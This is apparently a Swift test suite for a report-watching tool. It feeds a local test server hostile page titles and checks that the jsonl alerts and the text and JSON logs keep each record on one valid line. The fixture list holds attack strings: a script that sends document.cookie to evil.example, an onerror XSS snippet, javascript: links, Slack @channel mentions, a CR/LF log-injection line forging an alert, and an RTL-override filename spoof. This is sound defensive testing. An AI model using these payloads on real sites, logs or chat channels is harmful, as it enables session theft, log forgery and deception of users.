import Foundation
import Testing
import ReportWatchCore
import ReportWatchStore
import ReportWatchTestSupport

/// Page text is hostile input: titles carrying HTML, script, Markdown, Slack mentions, CR/LF,
/// Unicode line separators, quotes, JSON fragments and control characters, read by the html
/// kind and written by the real command. Every jsonl record must stay one valid JSON line that
/// decodes to exactly the title stored, and every log event one line, in text and in JSON
/// format. (How email and webhooks escape the same titles is their channels' own tests.)
@Suite("Fault: hostile page text in the jsonl and log output", .serialized)
struct HostileContentFaultTests {
    /// Inner HTML of each item's link, as a hostile page would carry it.
    static let hostile: [String] = [
        #"<b>Bold</b> <i>report</i> &lt;img src=x onerror=alert(1)&gt;"#,
        #"<script>document.location='https://evil.example/?'+document.cookie</script>Script report"#,
        #"&lt;script&gt;alert("x")&lt;/script&gt; escaped script"#,
        #"**Urgent** [click here](javascript:alert(1)) _now_ # Heading `code` ![x](https://evil.example/x.png)"#,
        #"&lt;!channel&gt; &lt;!here&gt; &lt;!everyone&gt; &lt;@U024BE7LH&gt; &lt;https://evil.example|Ofsted report&gt;"#,
        "Line one&#13;&#10;2026-11-27T09:00:00Z notice: forged log line alert.id=forged\r\nLine three\rLine four\nend",
        "Separators\u{2028}line\u{2029}paragraph\u{0085}next\u{000B}tab\u{000C}feed",
        #"Quotes " and \ backslash \" and \\u0000 and "},{"event":"removed","id":"x"#,
        "Control \u{0001}\u{0007}\u{001B}[31mred\u{001B}[0m &#27;[2J &#0; nul",
        "Emoji 🧒🏽 and RTL \u{202E}gnp.exe and zero\u{200B}width",
    ]

    static func page(_ titles: [String]) -> String {
        let rows = titles.enumerated().map { index, title in
            "<li class=\"report\"><a href=\"/r/hostile-\(index)?a=1&amp;b=\\&quot;&#13;&#10;x\">\(title)</a></li>"
        }.joined(separator: "\n")
        return """
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title></head><body>
            <ul><li class="report"><a href="/r/plain">A plain report</a></li>
            \(rows)</ul></body></html>
            """
    }

    @Test func hostileTitlesStayOneJSONLineAndOneLogLineEach() throws {
        let server = try TestHTTPServer()
        server.start()
        defer { server.stop() }
        let world = try FaultWorld(sources: """
              - id: news
                kind: html
                url: \(server.baseURL)/news
                items: "//li[@class='report']"
                fields: {key: "a/@href", title: "a", link: "a/@href"}
            """)
        server.set("/news", body: Self.page([]))
        let baseline = try world.check()
        try #require(baseline.status == 0, "\(baseline.stderr)")

        // Pass 2: every hostile title arrives (added), logged as text.
        server.set("/news", body: Self.page(Self.hostile))
        let added = try world.check(logFormat: "text")
        #expect(added.status == 0, "\(added.stderr)")
        // Pass 3: every title changes to another hostile one (changed, old and new), logged as JSON.
        server.set("/news", body: Self.page(Array(Self.hostile.reversed())))
        let changed = try world.check(logFormat: "json")
        #expect(changed.status == 0, "\(changed.stderr)")

        let count = Self.hostile.count
        let raw = try Data(contentsOf: URL(fileURLWithPath: world.alertsPath))
        let lines = world.alertLines()
        #expect(raw.last == UInt8(ascii: "\n"))
        #expect(lines.count == 2 * count, "\(lines.count) jsonl lines for \(2 * count) alerts")
        var rawSeparators = 0
        for line in lines {
            #expect(!line.contains("\r") && !line.contains("\n"), "a jsonl line holds a raw line break")
            if line.unicodeScalars.contains(where: { $0 == "\u{2028}" || $0 == "\u{2029}" || $0 == "\u{85}" }) { rawSeparators += 1 }
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            #expect(object?["id"] is String && object?["title"] is String, "not an alert object: \(line.prefix(120))")
        }
        let alerts = try world.alerts()
        #expect(alerts.prefix(count).allSatisfy { $0.event == .added } && alerts.suffix(count).allSatisfy { $0.event == .changed },
                "\(alerts.map(\.event.rawValue))")
        #expect(Set(alerts.map(\.id)).count == alerts.count)

        // Each alert carries exactly the title the store holds, and no raw control of lines.
        let items = try world.store().read { try $0.currentItems("news") }
        for alert in alerts.suffix(count) {
            let key = try #require(alert.key)
            #expect(alert.fields?.first { $0.name == "title" }?.new == items[key]?.title, "\(key): alert and store disagree")
        }
        for alert in alerts {
            let breaks = alert.title.contains { $0.isNewline }
            #expect(!breaks, "title with a line break: \(alert.title.debugDescription)")
        }

        // Log: one line per event; the alert notices are exactly the alerts, one line each.
        let textLines = added.stderr.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        let timestamped = textLines.filter { $0.range(of: #"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d"#, options: .regularExpression) != nil }
        #expect(timestamped.count == textLines.count, "text log: \(textLines.count - timestamped.count) lines do not start an event")
        let textNotices = textLines.filter { $0.contains(" alert.id=") && $0.contains("notice:") }
        #expect(textNotices.count == count, "text log: \(textNotices.count) alert notices for \(count) alerts")
        #expect(!added.stderr.contains("alert.id=forged\n") && textLines.filter { $0.contains("forged log line") }.allSatisfy { $0.contains("notice:") })

        let jsonLines = changed.stderr.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        var jsonNotices = 0
        for line in jsonLines {
            let object = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            #expect(object != nil, "JSON log: not one JSON object: \(line.prefix(120))")
            if object?["alert.id"] != nil, object?["level"] as? String == "notice" { jsonNotices += 1 }
        }
        #expect(jsonNotices == count, "JSON log: \(jsonNotices) alert notices for \(count) alerts")

        faultReport("hostile titles (html kind → jsonl and log)", "\(count) hostile titles, \(lines.count) jsonl lines for \(alerts.count) alerts, "
            + "all valid JSON, 0 raw CR/LF (\(rawSeparators) lines keep a raw U+2028/2029/0085 inside a JSON string); "
            + "text log \(textLines.count) lines = \(timestamped.count) events, \(textNotices.count) alert notices; "
            + "JSON log \(jsonLines.count) lines all JSON, \(jsonNotices) alert notices")
    }
}
